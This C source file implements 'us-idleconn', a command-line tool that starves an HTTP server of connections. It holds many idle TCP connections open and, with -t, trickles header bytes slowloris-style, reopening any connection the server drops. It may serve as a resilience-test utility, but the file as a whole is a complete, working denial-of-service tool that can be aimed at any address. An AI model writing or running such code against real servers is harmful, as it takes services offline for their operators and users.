// SPDX-License-Identifier: GPL-2.0
/*
 * us-idleconn: starve an HTTP server of connections.  Opens N TCP
 * connections to ADDR:PORT and holds them for SECONDS, sending nothing, or
 * with -t a byte of a request header now and then (slowloris: each byte
 * resets an inactivity timeout, the request never ends); every connection
 * the server closes is opened again at once.  An unprivileged local user can
 * do all of this.  Prints how many connections were held at the end and how
 * many the server closed.
 *
 *   us-idleconn [-t] ADDR PORT N SECONDS
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/resource.h>
#include <sys/socket.h>

static struct sockaddr_in sa;

static int dial(void)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	static const char req[] = "GET /metrics HTTP/1.1\r\nHost: x\r\nX-a: ";
	struct rlimit rl = { 4096, 4096 };
	int trickle = 0, n, secs, closed = 0, held = 0;
	double end, next_byte;
	struct pollfd *p;
	size_t *sent;

	if (argc > 1 && !strcmp(argv[1], "-t")) {
		trickle = 1;
		argv++;
		argc--;
	}
	if (argc != 5) {
		fprintf(stderr, "usage: us-idleconn [-t] ADDR PORT N SECONDS\n");
		return 2;
	}
	sa.sin_family = AF_INET;
	sa.sin_port = htons(atoi(argv[2]));
	if (inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1) {
		fprintf(stderr, "us-idleconn: '%s' is not an IPv4 address\n", argv[1]);
		return 2;
	}
	n = atoi(argv[3]);
	secs = atoi(argv[4]);
	setrlimit(RLIMIT_NOFILE, &rl);
	signal(SIGPIPE, SIG_IGN);
	p = calloc(n, sizeof(*p));
	sent = calloc(n, sizeof(*sent));
	if (!p || !sent)
		return 1;
	for (int i = 0; i < n; i++) {
		p[i].fd = dial();
		p[i].events = POLLIN;
	}
	end = now() + secs;
	next_byte = now() + 1;
	while (now() < end) {
		char buf[512];

		poll(p, n, 100);
		for (int i = 0; i < n; i++) {
			/* Closed by the server (EOF, reset) or never connected: again. */
			if (p[i].fd < 0 || (p[i].revents & (POLLIN | POLLHUP | POLLERR) &&
					    read(p[i].fd, buf, sizeof(buf)) <= 0)) {
				if (p[i].fd >= 0) {
					close(p[i].fd);
					closed++;
				}
				p[i].fd = dial();
				sent[i] = 0;
			}
		}
		if (trickle && now() >= next_byte) {
			for (int i = 0; i < n; i++)
				if (p[i].fd >= 0 && write(p[i].fd, &req[sent[i] % (sizeof(req) - 1)], 1) == 1)
					sent[i]++;
			next_byte = now() + 1;
		}
	}
	for (int i = 0; i < n; i++) {
		char c;

		if (p[i].fd >= 0 && (recv(p[i].fd, &c, 1, MSG_DONTWAIT | MSG_PEEK) < 0 &&
				     errno == EAGAIN))
			held++;
	}
	printf("us-idleconn: %d of %d connections held at the end, %d closed by the server\n",
	       held, n, closed);
	return 0;
}
